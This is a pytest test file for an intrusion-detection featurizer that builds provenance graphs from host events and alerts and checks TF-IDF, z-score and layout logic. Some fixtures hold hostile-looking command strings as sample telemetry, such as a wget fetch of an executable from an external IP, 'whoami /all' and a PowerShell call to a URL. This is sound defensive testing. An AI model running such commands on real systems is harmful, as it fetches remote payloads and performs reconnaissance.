"""Feature extraction: TF-IDF vocabulary, z-scoring, layouts, projection."""
import dataclasses
import json
import math

import numpy as np
import pytest
import scipy.sparse as sp
from hypothesis import example, given, settings, strategies as st

from aptstage.encoder import pack_graphs, project_packed
from aptstage.errors import CompatibilityError, FitError, ValidationError
from aptstage.features import (
    CONSTANT_STD,
    CONTINUOUS_COLUMNS,
    FeaturizerConfig,
    ZScoreStats,
    _PRIVILEGED,
    _PROTOCOLS,
    _bucket,
    edge_log_bytes,
    feature_spec_hash,
    featurize_graph,
    fit_vocab_and_stats,
    load_feature_spec,
    node_stats,
    node_text,
    save_feature_spec,
    tokenize,
)
from aptstage.graphs import (
    Edge,
    Node,
    NodeKind,
    Relation,
    _KIND_ORDER,
    _RELATION_ORDER,
    build_graph,
    window_events,
)
from aptstage.nn import ParamStore
from aptstage.telemetry import (
    WINDOW_SECONDS,
    EntityKind,
    EventKind,
    Protocol,
    parse_alerts,
    parse_host_events,
)
from aptstage.telemetry.records import BYTES_KINDS, SELF_EDGE_KINDS

from graph_helpers import campaign_graphs, dense_graphs, make_graph

CFG = FeaturizerConfig()


def mknode(kind, key, **attrs):
    attrs.setdefault("first_ts", 0.0)
    return Node(kind, key, attrs)


def tiny_graph():
    """p0 --read--> f1 plus self-loops; p0 carries a command."""
    nodes = (
        mknode(NodeKind.PROCESS, "h/p0.exe", commands=["wget payload"], users=["alice"]),
        mknode(NodeKind.FILE, "f1"),
    )
    edges = (
        Edge(Relation.READ, 0, 1, 5.0, bytes=10),
        Edge(Relation.SELF_LOOP, 0, 0, 0.0),
        Edge(Relation.SELF_LOOP, 1, 1, 0.0),
    )
    g = make_graph(0, 0.0, nodes, edges)
    g.validate()
    return g


def test_dimensions():
    assert CFG.node_dim == 196
    assert CFG.edge_dim == 26


def test_idf_formula():
    # texts "wget payload" and "wget": idf(wget)=ln(3/3)+1, idf(payload)=ln(3/2)+1
    nodes = (
        mknode(NodeKind.PROCESS, "a", commands=["wget payload"]),
        mknode(NodeKind.PROCESS, "b", commands=["wget"]),
    )
    g = make_graph(0, 0.0, nodes, ())
    vocab, _ = fit_vocab_and_stats([g])
    tok = vocab.token_index
    assert vocab.idf[tok["wget"]] == pytest.approx(1.0)
    assert vocab.idf[tok["payload"]] == pytest.approx(math.log(3 / 2) + 1, abs=1e-12)
    # more frequent token gets the lower column; ties broken lexicographically
    assert tok["wget"] < tok["payload"]


def test_vocab_caps_at_d_cmd():
    many = " ".join(f"tok{i:03d}" for i in range(100))
    g = make_graph(0, 0.0, (mknode(NodeKind.PROCESS, "a", commands=[many]),), ())
    vocab, _ = fit_vocab_and_stats([g])
    assert len(vocab.token_index) == CFG.d_cmd
    # all df equal -> lexicographically smallest 64 survive
    assert "tok000" in vocab.token_index and "tok099" not in vocab.token_index


def test_fit_empty_corpus():
    with pytest.raises(FitError):
        fit_vocab_and_stats([])


def test_constant_column_zscores_to_zero():
    stats = ZScoreStats(mean=np.array([5.0, 0, 0, 0]), std=np.array([0.0, 1, 1, 1]))
    assert stats.constant[0]
    assert np.array_equal(stats.apply(0, [5.0, 7.0]), [0.0, 0.0])


def test_zscore_normalizes_training_columns():
    graphs = campaign_graphs()
    _, stats = fit_vocab_and_stats(graphs)
    cols = [[], [], []]
    sizes = []
    for g in graphs:
        s = node_stats(g)
        for i, node in enumerate(g.nodes):
            if node.kind is not NodeKind.ALERT:
                for j in range(3):
                    cols[j].append(s[i, j])
        sizes.extend(math.log1p(e.bytes or 0) for e in g.edges)
    for j, vals in enumerate(cols + [sizes]):
        z = stats.apply(j, np.array(vals))
        if stats.constant[j]:
            assert np.all(z == 0)
        else:
            assert abs(z.mean()) < 1e-9
            assert abs(z.std() - 1.0) < 1e-6


def test_bucket_is_stable():
    import zlib
    assert _bucket("alice", 16) == zlib.crc32(b"alice") % 16
    assert 0 <= _bucket("anything", 32) < 32


def test_node_layout_host_block():
    g = tiny_graph()
    vocab, stats = fit_vocab_and_stats([g])
    x = featurize_graph(g, vocab, stats)[0].toarray()[0]
    assert x.shape == (CFG.node_dim,)
    kind_pos = list(NodeKind).index(NodeKind.PROCESS)
    assert x[kind_pos] == 1.0 and x[:7].sum() == 1.0
    assert x[CFG.n_cmd + vocab.token_index["wget"]] > 0  # tfidf populated
    assert x[CFG.n_user + _bucket("alice", CFG.user_buckets)] == 1.0
    assert x[CFG.n_priv] == 0.0  # alice is unprivileged
    # alert block zeroed for host entities
    assert np.all(x[CFG.n_sig:] == 0.0)


def test_privileged_user_flag():
    nodes = (mknode(NodeKind.PROCESS, "p", users=["SYSTEM"]),)
    g = make_graph(0, 0.0, nodes, ())
    vocab, stats = fit_vocab_and_stats([tiny_graph()])
    x = featurize_graph(g, vocab, stats)[0].toarray()[0]
    assert x[CFG.n_priv] == 1.0


def test_alert_node_block():
    alert = mknode(NodeKind.ALERT, "alert:0:sig", signature="beacon observed",
                   severity=1.0, protocol="tcp", category="c2",
                   external_ip="198.51.100.7", external_port=8443, outbound=True,
                   first_ts=150.0)
    g = make_graph(0, 0.0, (alert,), ())
    vocab, stats = fit_vocab_and_stats([g])
    x = featurize_graph(g, vocab, stats)[0].toarray()[0]
    assert x[list(NodeKind).index(NodeKind.ALERT)] == 1.0
    assert x[CFG.n_sev] == 1.0
    assert x[CFG.n_proto + 0] == 1.0  # tcp bit
    assert x[CFG.n_proto + 4] == 1.0  # outbound direction bit
    assert x[CFG.n_net + CFG.subnet_buckets] == pytest.approx(8443 / 65535)
    assert x[CFG.n_atime] == pytest.approx(0.5)
    # host block zeroed for alerts (kind one-hot aside)
    assert np.all(x[CFG.n_cmd:CFG.n_sig] == 0.0)


def test_time_feature_window_relative():
    g = tiny_graph()
    vocab, stats = fit_vocab_and_stats([g])
    shifted = make_graph(3, 900.0, (
        mknode(NodeKind.PROCESS, "p", first_ts=930.0),), ())
    x = featurize_graph(shifted, vocab, stats)[0].toarray()[0]
    assert x[CFG.n_time] == pytest.approx(30.0 / WINDOW_SECONDS)
    assert 0.0 <= x[CFG.n_time] < 1.0


def test_degree_at_mean_zscores_to_zero():
    g = tiny_graph()
    vocab, stats = fit_vocab_and_stats([g])
    s = node_stats(g)
    # both nodes share the same event count -> column is constant -> exact mean
    x0 = featurize_graph(g, vocab, stats)[0].toarray()[0]
    assert s[0, 2] == s[1, 2]
    assert x0[CFG.n_stat + 2] == 0.0


def test_edge_layout():
    g = tiny_graph()
    vocab, stats = fit_vocab_and_stats([g])
    z = featurize_graph(g, vocab, stats)[1][0]
    assert z.shape == (CFG.edge_dim,)
    assert z[list(Relation).index(Relation.READ)] == 1.0
    assert z[CFG.e_freq] == 1.0  # count 1 / max count 1
    assert z[CFG.e_time] == pytest.approx(5.0 / WINDOW_SECONDS)
    # host edge: alert block zeroed
    assert np.all(z[CFG.e_acat:] == 0.0)


def test_edge_bytes_absent_is_zscore_of_zero():
    nodes = (mknode(NodeKind.PROCESS, "a"), mknode(NodeKind.FILE, "b"))
    edges = (Edge(Relation.READ, 0, 1, 1.0, bytes=None),
             Edge(Relation.WRITE, 0, 1, 2.0, bytes=100))
    g = make_graph(0, 0.0, nodes, edges)
    vocab, stats = fit_vocab_and_stats([g])
    z = featurize_graph(g, vocab, stats)[1][0]
    assert z[CFG.e_size] == pytest.approx(stats.apply(3, 0.0))


def test_most_frequent_edge_has_unit_freq():
    nodes = (mknode(NodeKind.PROCESS, "a"), mknode(NodeKind.FILE, "b"))
    edges = (Edge(Relation.READ, 0, 1, 1.0, count=4),
             Edge(Relation.WRITE, 0, 1, 2.0, count=2))
    g = make_graph(0, 0.0, nodes, edges)
    vocab, stats = fit_vocab_and_stats([g])
    Z = featurize_graph(g, vocab, stats)[1]
    assert Z[0, CFG.e_freq] == 1.0
    assert Z[1, CFG.e_freq] == 0.5


def test_triggered_by_edge_alert_block():
    alert = mknode(NodeKind.ALERT, "alert:0:s", signature="s", severity=0.8,
                   protocol="udp", category="c2")
    proc = mknode(NodeKind.PROCESS, "p")
    g = make_graph(0, 0.0, (proc, alert),
                   (Edge(Relation.TRIGGERED_BY, 1, 0, 3.0),))
    vocab, stats = fit_vocab_and_stats([g])
    z = featurize_graph(g, vocab, stats)[1][0]
    assert z[CFG.e_asev] == pytest.approx(0.8)
    assert z[CFG.e_aproto + 1] == 1.0  # udp
    assert z[CFG.e_acat + _bucket("c2", CFG.category_buckets)] == 1.0


def test_featurize_graph_shapes_and_finiteness():
    for g in campaign_graphs(windows=4):
        vocab, stats = fit_vocab_and_stats([g])
        X, Z = featurize_graph(g, vocab, stats)
        assert X.shape == (len(g.nodes), CFG.node_dim)
        assert Z.shape == (len(g.edges), CFG.edge_dim)
        assert np.isfinite(X.toarray()).all() and np.isfinite(Z).all()


def test_oov_tokens_contribute_nothing():
    g = tiny_graph()
    vocab, stats = fit_vocab_and_stats([g])
    before = dict(vocab.token_index)
    novel = make_graph(0, 0.0, (
        mknode(NodeKind.PROCESS, "x", commands=["neverseen zyx"]),), ())
    x = featurize_graph(novel, vocab, stats)[0].toarray()[0]
    assert np.all(x[CFG.n_cmd:CFG.n_cmd + CFG.d_cmd] == 0.0)
    assert vocab.token_index == before


def test_tfidf_rows_memoized_and_read_only():
    vocab, stats = fit_vocab_and_stats([tiny_graph()])
    row = vocab.tfidf("wget payload wget")
    assert vocab.tfidf("wget payload wget") is row  # the repeat hits the memo
    col = vocab.token_index["wget"]
    assert row[col] == 2 * vocab.idf[col]
    with pytest.raises(ValueError):
        row[col] = 0.0
    # the memo is invisible to equality and to the spec hash
    fresh = dataclasses.replace(vocab)
    assert fresh == vocab
    assert feature_spec_hash(fresh, stats, CFG) == feature_spec_hash(vocab, stats, CFG)


# ------------------------------------------------ row-wise reference featurizer


class RowLayout:
    """Column offsets as chained properties, each block after the previous
    one: the layout as it was written before the block tables."""

    def __init__(self, cfg):
        self.d_cmd = cfg.d_cmd
        self.user_buckets = cfg.user_buckets
        self.subnet_buckets = cfg.subnet_buckets
        self.category_buckets = cfg.category_buckets

    n_type = property(lambda s: 0)
    n_cmd = property(lambda s: len(NodeKind))
    n_user = property(lambda s: s.n_cmd + s.d_cmd)
    n_priv = property(lambda s: s.n_user + s.user_buckets)
    n_time = property(lambda s: s.n_priv + 1)
    n_stat = property(lambda s: s.n_time + 1)
    n_sig = property(lambda s: s.n_stat + 3)
    n_sev = property(lambda s: s.n_sig + s.d_cmd)
    n_proto = property(lambda s: s.n_sev + 1)
    n_net = property(lambda s: s.n_proto + len(_PROTOCOLS) + 1)
    n_atime = property(lambda s: s.n_net + s.subnet_buckets + 1)
    node_dim = property(lambda s: s.n_atime + 1)
    e_type = property(lambda s: 0)
    e_freq = property(lambda s: len(Relation))
    e_size = property(lambda s: s.e_freq + 1)
    e_time = property(lambda s: s.e_size + 1)
    e_acat = property(lambda s: s.e_time + 1)
    e_asev = property(lambda s: s.e_acat + s.category_buckets)
    e_aproto = property(lambda s: s.e_asev + 1)
    edge_dim = property(lambda s: s.e_aproto + len(_PROTOCOLS))

    OFFSETS = ("n_type", "n_cmd", "n_user", "n_priv", "n_time", "n_stat", "n_sig", "n_sev",
               "n_proto", "n_net", "n_atime", "node_dim", "e_type", "e_freq", "e_size",
               "e_time", "e_acat", "e_asev", "e_aproto", "edge_dim")


def _ref_fill_node_row(row, node, stat_row, graph, vocab, stats, cfg):
    row[cfg.n_type + _KIND_ORDER[node.kind]] = 1.0
    if node.kind is NodeKind.ALERT:
        row[cfg.n_sig : cfg.n_sig + cfg.d_cmd] = vocab.tfidf(node_text(node))
        row[cfg.n_sev] = node.attrs.get("severity", 0.0)
        proto = node.attrs.get("protocol", "other")
        row[cfg.n_proto + _PROTOCOLS.index(proto if proto in _PROTOCOLS else "other")] = 1.0
        if node.attrs.get("outbound"):
            row[cfg.n_proto + len(_PROTOCOLS)] = 1.0
        subnet = ".".join(node.attrs.get("external_ip", "").split(".")[:3])
        row[cfg.n_net + _bucket(subnet, cfg.subnet_buckets)] = 1.0
        row[cfg.n_net + cfg.subnet_buckets] = node.attrs.get("external_port", 0) / 65535.0
        row[cfg.n_atime] = (node.attrs["first_ts"] - graph.window_start) / WINDOW_SECONDS
    else:
        text = node_text(node)
        if text:
            row[cfg.n_cmd : cfg.n_cmd + cfg.d_cmd] = vocab.tfidf(text)
        users = node.attrs.get("users", [])
        if node.kind is NodeKind.USER:
            users = list(users) + [node.key]
        for u in users:
            row[cfg.n_user + _bucket(u, cfg.user_buckets)] = 1.0
        if any(u.lower() in _PRIVILEGED for u in users):
            row[cfg.n_priv] = 1.0
        row[cfg.n_time] = (node.attrs["first_ts"] - graph.window_start) / WINDOW_SECONDS
        for j in range(3):
            row[cfg.n_stat + j] = stats.apply(j, stat_row[j])


def _ref_fill_edge_row(row, edge, max_count, graph, stats, cfg):
    row[cfg.e_type + _RELATION_ORDER[edge.relation]] = 1.0
    row[cfg.e_freq] = edge.count / max_count
    row[cfg.e_size] = stats.apply(3, math.log1p(edge.bytes or 0))
    row[cfg.e_time] = (edge.timestamp - graph.window_start) / WINDOW_SECONDS
    if edge.relation is Relation.TRIGGERED_BY:
        src = graph.nodes[edge.src]
        row[cfg.e_acat + _bucket(src.attrs.get("category", ""), cfg.category_buckets)] = 1.0
        row[cfg.e_asev] = src.attrs.get("severity", 0.0)
        proto = src.attrs.get("protocol", "other")
        row[cfg.e_aproto + _PROTOCOLS.index(proto if proto in _PROTOCOLS else "other")] = 1.0


def ref_node_stats(graph):
    """node_stats as written before `ProvenanceGraph.edge_index`: degrees and
    event counts accumulated edge by edge."""
    n = len(graph.nodes)
    out = np.zeros((n, 3))
    for e in graph.edges:
        if e.relation is Relation.SELF_LOOP:
            continue
        out[e.dst, 0] += 1
        out[e.src, 1] += 1
        if e.relation is not Relation.TRIGGERED_BY:
            out[e.src, 2] += e.count
            out[e.dst, 2] += e.count
    return out


def ref_featurize_graph(graph, vocab, stats, config):
    cfg = RowLayout(config)
    X = np.zeros((len(graph.nodes), cfg.node_dim))
    Z = np.zeros((len(graph.edges), cfg.edge_dim))
    srows = ref_node_stats(graph)
    for i, node in enumerate(graph.nodes):
        _ref_fill_node_row(X[i], node, srows[i], graph, vocab, stats, cfg)
    if graph.edges:
        max_count = max(e.count for e in graph.edges)
        for j, edge in enumerate(graph.edges):
            _ref_fill_edge_row(Z[j], edge, max_count, graph, stats, cfg)
    return X, Z


def ref_fit_stats(corpus):
    """(mean, std) of the continuous columns, stat rows taken node by node."""
    stat_rows, sizes = [], []
    for g in corpus:
        s = ref_node_stats(g)
        stat_rows.extend(s[i] for i, node in enumerate(g.nodes) if node.kind is not NodeKind.ALERT)
        sizes.append(edge_log_bytes(g))
    stat_mat, sizes = np.array(stat_rows), np.concatenate(sizes)
    return (np.concatenate([stat_mat.mean(axis=0), [sizes.mean()]]),
            np.concatenate([stat_mat.std(axis=0), [sizes.std()]]))


def test_node_stats_equals_per_edge_reference():
    lone = make_graph(0, 0.0, (mknode(NodeKind.FILE, "f"),), ())
    graphs = campaign_graphs(seed=3, windows=12) + dense_graphs() + [tiny_graph(), lone]
    assert any(e.relation is Relation.TRIGGERED_BY for g in graphs for e in g.edges)
    assert any(e.count > 1 for g in graphs for e in g.edges)
    for g in graphs:
        assert np.array_equal(node_stats(g), ref_node_stats(g))


@pytest.mark.parametrize("config", [CFG, FeaturizerConfig(8, 3, 5, 2)], ids=["default", "small"])
def test_featurize_graph_equals_row_wise_reference(config):
    campaign, dense = campaign_graphs(seed=3, windows=12), dense_graphs()
    assert sum(n.kind is NodeKind.ALERT for g in campaign for n in g.nodes) > 0
    edges_per_window = [sum(len(g.edges) for g in gs) / len(gs) for gs in (campaign, dense)]
    assert edges_per_window[1] > 3 * edges_per_window[0]
    vocab, stats = fit_vocab_and_stats(campaign + dense[:1], config)
    mean, std = ref_fit_stats(campaign + dense[:1])
    assert np.array_equal(stats.mean, mean) and np.array_equal(stats.std, std)
    for g in campaign + dense:
        X, Z = featurize_graph(g, vocab, stats, config)
        X_ref, Z_ref = ref_featurize_graph(g, vocab, stats, config)
        assert np.array_equal(X.toarray(), X_ref) and np.array_equal(Z, Z_ref)


def test_featurized_x_is_canonical_csr():
    """X stores each non-zero value once, row by row in column order. Two
    users hashed to one bucket set it once, to 1.0 (overwrite, not sum)."""
    fcfg = FeaturizerConfig(8, 3, 5, 2)
    bucket = _bucket("alice", 3)
    assert _bucket("bob", 3) == _bucket("carol", 3) == bucket
    shared = make_graph(0, 0.0, (
        mknode(NodeKind.PROCESS, "p", commands=["wget payload"], users=["alice", "bob"]),
        mknode(NodeKind.USER, "carol", users=["alice"]),
        mknode(NodeKind.FILE, "f")), ())
    graphs = campaign_graphs(seed=3, windows=4) + dense_graphs()[:1] + [shared]
    vocab, stats = fit_vocab_and_stats(graphs, fcfg)
    for g in graphs:
        X = featurize_graph(g, vocab, stats, fcfg)[0]
        assert isinstance(X, sp.csr_array) and X.shape == (len(g.nodes), fcfg.node_dim)
        assert X.indptr[0] == 0 and X.indptr[-1] == X.nnz and np.all(np.diff(X.indptr) >= 0)
        for i in range(X.shape[0]):
            cols = X.indices[X.indptr[i]:X.indptr[i + 1]]
            assert np.all(np.diff(cols) > 0) and np.all((0 <= cols) & (cols < fcfg.node_dim))
        assert np.all(X.data != 0) and X.has_canonical_format
    X = featurize_graph(shared, vocab, stats, fcfg)[0].toarray()
    users = X[:, fcfg.n_user:fcfg.n_user + fcfg.user_buckets]
    # p holds alice and bob, carol's user node alice and its own key: one bucket each
    onehot = [1.0 if b == bucket else 0.0 for b in range(3)]
    assert users[0].tolist() == users[1].tolist() == onehot


def test_layout_offsets_pinned():
    # a checkpoint's proj.Wx/proj.Wz columns follow this layout; the
    # feature-spec hash covers only the four widths, so a reordered block
    # table would go unnoticed by every hash
    assert {name: getattr(CFG, name) for name in RowLayout.OFFSETS} == {
        "n_type": 0, "n_cmd": 7, "n_user": 71, "n_priv": 87, "n_time": 88, "n_stat": 89,
        "n_sig": 92, "n_sev": 156, "n_proto": 157, "n_net": 162, "n_atime": 195,
        "node_dim": 196, "e_type": 0, "e_freq": 10, "e_size": 11, "e_time": 12,
        "e_acat": 13, "e_asev": 21, "e_aproto": 22, "edge_dim": 26,
    }
    small = FeaturizerConfig(8, 3, 5, 2)
    assert all(getattr(small, n) == getattr(RowLayout(small), n) for n in RowLayout.OFFSETS)


def test_config_fields_are_the_four_widths():
    assert [f.name for f in dataclasses.fields(FeaturizerConfig)] == [
        "d_cmd", "user_buckets", "subnet_buckets", "category_buckets"]
    assert dataclasses.asdict(CFG) == {"d_cmd": 64, "user_buckets": 16,
                                       "subnet_buckets": 32, "category_buckets": 8}


@pytest.mark.parametrize("field,value", [("user_buckets", 0), ("subnet_buckets", -1),
                                         ("d_cmd", 0), ("category_buckets", -3)])
def test_non_positive_width_rejected(field, value):
    with pytest.raises(ValidationError, match=field):
        FeaturizerConfig(**{field: value})


# ---------------------------------------------------------------- project


def project(X, Z, W_x, b_x, W_z, b_z):
    """project_packed on one graph with |V| = len(X) nodes and |E| = len(Z)
    edges, edge j a self-loop on node j (so |E| <= |V|): each edge is a
    segment of its own, and the segment means of z̃ are its rows. Returns
    (x̃, z̃) as arrays."""
    g = make_graph(0, 0.0, tuple(mknode(NodeKind.PROCESS, f"n{i}") for i in range(len(X))),
                   tuple(Edge(Relation.SELF_LOOP, j, j, 0.0) for j in range(len(Z))))
    store = ParamStore()
    for name, value in (("proj.Wx", W_x), ("proj.bx", b_x), ("proj.Wz", W_z), ("proj.bz", b_z)):
        store.add(name, value)
    Xt, Zt = project_packed(pack_graphs([(sp.csr_array(X), Z, g)]), store)
    return Xt.data, Zt.data


def test_project_identity():
    d_x, d_e = CFG.node_dim, CFG.edge_dim
    X = np.random.default_rng(0).normal(size=(4, d_x))
    node_features, _ = project(X, np.zeros((2, d_e)), np.eye(d_x), np.zeros(d_x),
                               np.zeros((d_x, d_e)), np.zeros(d_x))
    assert np.array_equal(node_features, X)


def test_project_bias_only():
    node_features, _ = project(np.zeros((2, 5)), np.zeros((1, 4)), np.zeros((3, 5)),
                               np.array([1.0, 2, 3]), np.zeros((3, 4)), np.zeros(3))
    assert np.allclose(node_features, [[1, 2, 3], [1, 2, 3]])


def test_project_matches_triple_loop_oracle(rng):
    d_x, d_e, d_h, n, m = 5, 4, 6, 3, 2
    W_x, b_x = rng.normal(size=(d_h, d_x)), rng.normal(size=d_h)
    W_z, b_z = rng.normal(size=(d_h, d_e)), rng.normal(size=d_h)
    X = rng.normal(size=(n, d_x))
    Z = rng.normal(size=(m, d_e))
    node_features, edge_features = project(X, Z, W_x, b_x, W_z, b_z)
    for i in range(n):
        for k in range(d_h):
            acc = b_x[k]
            for j in range(d_x):
                acc += W_x[k, j] * X[i, j]
            assert abs(node_features[i, k] - acc) < 1e-12
    for i in range(m):
        for k in range(d_h):
            acc = b_z[k]
            for j in range(d_e):
                acc += W_z[k, j] * Z[i, j]
            assert abs(edge_features[i, k] - acc) < 1e-12


# ---------------------------------------------------------------- spec file


def test_spec_roundtrip(tmp_path):
    graphs = campaign_graphs(windows=4)
    vocab, stats = fit_vocab_and_stats(graphs)
    path = tmp_path / "spec.json"
    h = save_feature_spec(path, vocab, stats, CFG, meta={"note": "x"})
    v2, s2, cfg2, h2 = load_feature_spec(path)
    assert h2 == h == feature_spec_hash(vocab, stats, CFG)
    assert v2.token_index == vocab.token_index
    assert np.allclose(v2.idf, vocab.idf)
    assert np.allclose(s2.mean, stats.mean) and np.allclose(s2.std, stats.std)
    assert cfg2 == CFG
    # meta participates in the file but not the hash
    h_plain = save_feature_spec(tmp_path / "plain.json", vocab, stats, CFG)
    assert h_plain == h


def test_spec_version_refused(tmp_path):
    import json
    g = tiny_graph()
    vocab, stats = fit_vocab_and_stats([g])
    path = tmp_path / "spec.json"
    save_feature_spec(path, vocab, stats, CFG)
    doc = json.loads(path.read_text())
    doc["version"] = 99
    path.write_text(json.dumps(doc))
    with pytest.raises(CompatibilityError):
        load_feature_spec(path)


def test_tokenize_lowercases_and_splits():
    assert tokenize("PowerShell.exe -NoP http://203.0.113.10") == [
        "powershell", "exe", "nop", "http", "203", "0", "113", "10"]


# ------------------------------------------------ end to end: JSONL to features

HOSTS = ("10.0.0.1", "10.0.0.2")
# entity keys: paths, sockets, a host id, and one shaped like an alert node key
KEYS = ("10.0.0.1/cmd.exe", "10.0.0.1/wget.exe", "C:\\Temp\\p.dll", "/etc/passwd",
        "9.9.9.9", "9.9.9.9:443", "10.0.0.2", "alert:0:ET SCAN")
EXTERNAL = ("9.9.9.9", "7.7.7.7")
# window-relative offsets on a 300 s grid tie records and leave windows empty
_TS = st.one_of(
    st.builds(lambda w, off: 300.0 * w + off, st.integers(0, 8),
              st.sampled_from((0.0, 0.5, 150.0, 299.5))),
    st.floats(0.0, 2700.0))


@st.composite
def host_event_record(draw):
    kind = draw(st.sampled_from(list(EventKind)))
    subj = (draw(st.sampled_from(list(EntityKind))).value, draw(st.sampled_from(KEYS)))
    obj = (draw(st.sampled_from(list(EntityKind))).value, draw(st.sampled_from(KEYS)))
    if obj == subj and kind not in SELF_EDGE_KINDS:
        obj = (obj[0], obj[1] + "#2")
    rec = {"ts": draw(_TS), "host": draw(st.sampled_from(HOSTS)), "kind": kind.value,
           "subj_kind": subj[0], "subj_key": subj[1], "obj_kind": obj[0], "obj_key": obj[1]}
    cmd = draw(st.sampled_from((None, "wget http://9.9.9.9/p.exe", "whoami /all", "")))
    user = draw(st.sampled_from((None, "root", "alice")))
    if cmd is not None:
        rec["cmd"] = cmd
    if user is not None:
        rec["user"] = user
    if kind in BYTES_KINDS and draw(st.booleans()):
        rec["bytes"] = draw(st.integers(0, 10**9))
    return rec


alert_record = st.fixed_dictionaries({
    "ts": _TS, "sig": st.sampled_from(("ET SCAN", "ET TROJAN beacon")),
    "sev": st.floats(0.0, 1.0), "proto": st.sampled_from([p.value for p in Protocol]),
    "cat": st.sampled_from(("scan", "trojan-activity")),
    "src_ip": st.sampled_from(HOSTS + EXTERNAL), "src_port": st.integers(0, 65535),
    "dst_ip": st.sampled_from(HOSTS + EXTERNAL), "dst_port": st.integers(0, 65535)})


def _jsonl(records):
    return "".join(json.dumps(r) + "\n" for r in records)


def _record(ts, kind, subj, obj, **extra):
    return {"ts": ts, "host": HOSTS[0], "kind": kind, "subj_kind": "process",
            "subj_key": subj, "obj_kind": "file", "obj_key": obj, **extra}


_ALERT = {"sig": "ET SCAN", "sev": 0.5, "proto": "tcp", "cat": "scan",
          "src_ip": HOSTS[0], "src_port": 1, "dst_ip": "7.7.7.7", "dst_port": 2}


@settings(max_examples=150)
@given(st.lists(host_event_record(), max_size=12), st.lists(alert_record, max_size=4))
# tied events in window 0, windows 1, 3 and 4 empty, window 2 alert-only, and
# an alert whose external ip no event ever sighted
@example([_record(0.0, "FileRead", "10.0.0.1/a.exe", "/f"),
          _record(0.0, "FileWrite", "alert:0:ET SCAN", "/f"),
          _record(1500.0, "FileRead", "10.0.0.1/a.exe", "/g")],
         [dict(_ALERT, ts=650.0), dict(_ALERT, ts=0.0)])
def test_jsonl_to_features_property(event_records, alert_records):
    events = parse_host_events(_jsonl(event_records))
    alerts = parse_alerts(_jsonl(alert_records))
    stamps = [r["ts"] for r in event_records + alert_records]
    graphs = [build_graph(w) for w in window_events(events, alerts)]
    if not stamps:
        assert graphs == []
        return
    assert len(graphs) == math.floor((max(stamps) - min(stamps)) / WINDOW_SECONDS) + 1

    fcfg = FeaturizerConfig(8, 3, 5, 2)
    vocab, stats = fit_vocab_and_stats(graphs, fcfg)
    n_alert_nodes = n_triggered = 0
    for g in graphs:
        g.validate()
        X, Z = featurize_graph(g, vocab, stats, fcfg)
        assert np.isfinite(X.toarray()).all() and np.isfinite(Z).all()
        alert_nodes = {i for i, nd in enumerate(g.nodes) if nd.kind is NodeKind.ALERT}
        triggered = [e.src for e in g.edges if e.relation is Relation.TRIGGERED_BY]
        assert sorted(triggered) == sorted(alert_nodes)  # one edge out of each alert
        n_alert_nodes += len(alert_nodes)
        n_triggered += len(triggered)
    assert n_alert_nodes == n_triggered == len(alerts)
